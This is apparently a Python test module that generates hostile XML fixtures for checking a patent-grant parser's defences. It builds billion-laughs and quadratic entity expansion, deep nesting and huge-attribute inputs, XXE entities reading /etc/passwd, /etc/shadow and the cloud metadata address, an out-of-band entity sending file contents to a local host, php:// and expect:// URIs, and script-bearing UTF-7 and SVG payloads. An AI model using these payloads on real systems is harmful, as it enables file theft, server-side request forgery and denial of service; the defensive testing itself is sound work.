"""Documents of XML: entities that multiply or fetch, depth, length, and encodings that are not what they say."""

from __future__ import annotations

from tests.hostile.file import Hostile, fixed

BODY = (
    "<us-patent-grant><us-bibliographic-data-grant><publication-reference><document-id><country>US</country>"
    "<doc-number>{number}</doc-number><kind>B2</kind><date>20200107</date></document-id></publication-reference>"
    "<invention-title>{title}</invention-title></us-bibliographic-data-grant>{rest}</us-patent-grant>"
)
DECLARED = '<?xml version="1.0" encoding="{encoding}"?>\n'


def grant(title: str = "x", rest: str = "", number: str = "07000001") -> str:
    return BODY.format(title=title, rest=rest, number=number)


def declared(subset: str, title: str, root: str = "us-patent-grant") -> str:
    return f"{DECLARED.format(encoding='UTF-8')}<!DOCTYPE {root} [{subset}]>{grant(title)}"


def laughs(levels: int = 9) -> str:
    entities = ['<!ENTITY l0 "ha">']
    entities += [f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, levels + 1)]
    return declared("".join(entities), f"&l{levels};")


def quadratic() -> str:
    return declared(f'<!ENTITY a "{"a" * 50_000}">', "&a;" * 50_000)


def deep(depth: int = 200_000) -> str:
    return DECLARED.format(encoding="UTF-8") + grant(rest="<b>" * depth + "</b>" * depth)


def attributes() -> str:
    many = " ".join(f'a{place}="1"' for place in range(60_000))
    return DECLARED.format(encoding="UTF-8") + f"<us-patent-grant {many}>" + "</us-patent-grant>"


def external(where: str, kind: str = "SYSTEM") -> str:
    return declared(f'<!ENTITY x {kind} "{where}">', "&x;")


def many_entities() -> str:
    return declared("".join(f'<!ENTITY e{place} "x">' for place in range(80_000)), "&e1;")


def files() -> list[Hostile]:
    utf16 = declared('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;").replace("UTF-8", "UTF-16")
    parameter = '<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;'
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    head = DECLARED.format(encoding="UTF-8")
    return [
        Hostile("laughs.xml", lambda: laughs().encode()),
        Hostile("laughs-16.xml", lambda: laughs().replace("UTF-8", "UTF-16").encode("utf-16")),
        Hostile("quadratic.xml", lambda: quadratic().encode()),
        Hostile("many-entities.xml", lambda: many_entities().encode()),
        fixed("recursive.xml", declared('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;")),
        fixed("passwd.xml", external("file:///etc/passwd")),
        fixed("shadow.xml", external("/etc/shadow")),
        fixed("relative.xml", external("../../../../etc/passwd")),
        fixed("http.xml", external("http://127.0.0.1:9/secret")),
        fixed("ftp.xml", external("ftp://127.0.0.1:9/secret")),
        fixed("metadata.xml", external("http://169.254.169.254/latest/meta-data/")),
        fixed("jar.xml", external("jar:file:///tmp/a.zip!/x")),
        fixed("php.xml", external("php://filter/convert.base64-encode/resource=/etc/passwd")),
        fixed("expect.xml", external("expect://id")),
        fixed("public.xml", external('-//X//EN" "file:///etc/passwd', "PUBLIC")),
        fixed("device.xml", external("file:///dev/zero")),
        fixed("stdin.xml", external("file:///dev/stdin")),
        fixed("parameter.xml", declared(parameter, "x")),
        fixed(
            "out-of-band.xml",
            declared(
                '<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY s SYSTEM \'http://127.0.0.1:9/?%f;\'>">%e;',
                "&s;",
            ),
        ),
        fixed("utf-16-entity.xml", utf16.encode("utf-16")),
        fixed("utf-16-be-entity.xml", utf16.encode("utf-16-be")),
        fixed("utf-32-entity.xml", utf16.replace("UTF-16", "UTF-32").encode("utf-32")),
        fixed(
            "utf-7.xml", "+ADwAPw-xml version=+ACI-1.0+ACI- encoding=+ACI-UTF-7+ACIAPwA+-" + grant("+ADw-script+AD4-")
        ),
        fixed("utf-7-declared.xml", DECLARED.format(encoding="UTF-7") + grant("+ADw-script+AD4-")),
        fixed("no-such-encoding.xml", DECLARED.format(encoding="x-evil") + grant()),
        fixed("codec-of-python.xml", DECLARED.format(encoding="zlib_codec") + grant()),
        fixed("rot13.xml", DECLARED.format(encoding="rot13") + grant()),
        fixed("unicode-escape.xml", DECLARED.format(encoding="unicode_escape") + grant("\\ud800")),
        fixed("idna.xml", DECLARED.format(encoding="idna") + grant("x" * 100)),
        fixed("says-utf-8.xml", (head + grant("특허")).encode("cp949")),
        fixed("mixed.xml", (head + grant("특허")).encode() + grant("특허").encode("utf-16-le"), harmless=True),
        Hostile("deep.xml", lambda: deep().encode()),
        Hostile("attributes.xml", lambda: attributes().encode()),
        Hostile("attribute.xml", (head + f'<us-patent-grant a="{"x" * 12_000_000}">').encode),
        Hostile("name.xml", (head + f"<us-patent-grant><{'n' * 12_000_000}/></us-patent-grant>").encode),
        Hostile("open-tag.xml", (head + "<us-patent-grant " + "<" * 2_000_000).encode),
        Hostile(
            "namespaces.xml",
            (head + grant(rest="".join(f'<a xmlns:n{n}="u{n}">' for n in range(30_000)))).encode,
        ),
        Hostile("comment.xml", (head + "<!--" + "- " * 1_000_000).encode),
        Hostile("instruction.xml", (head + "<?x " + "?" * 2_000_000).encode),
        Hostile("doctype.xml", (head + "<!DOCTYPE us-patent-grant [" + "<" * 2_000_000).encode),
        Hostile("quotes.xml", (head + "<!DOCTYPE us-patent-grant " + "\"'" * 500_000 + grant()).encode),
        fixed("xinclude.xml", head + grant(rest=f"<abstract>{include}</abstract>"), harmless=True),
        fixed("stylesheet.xml", '<?xml-stylesheet href="file:///etc/passwd"?>' + grant(), harmless=True),
        fixed("two-roots.xml", head + grant() + "<a/></b>", harmless=True),
        fixed("after-the-end.xml", head + "<us-patent-grant><us-bib"),
        fixed("null-in-tag.xml", head + "<us-patent-grant><\x00a></us-patent-grant>"),
        fixed("bad-character.xml", head + grant("&#0;")),
        fixed("surrogate.xml", head + grant("&#xD800;")),
        fixed("huge-reference.xml", head + grant(f"&#{'9' * 100_000};")),
        fixed("soap.xml", '<soap:Envelope xmlns:soap="x"><us-patent-grant><us-bib'),
        fixed(
            "script.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
        ),
    ]
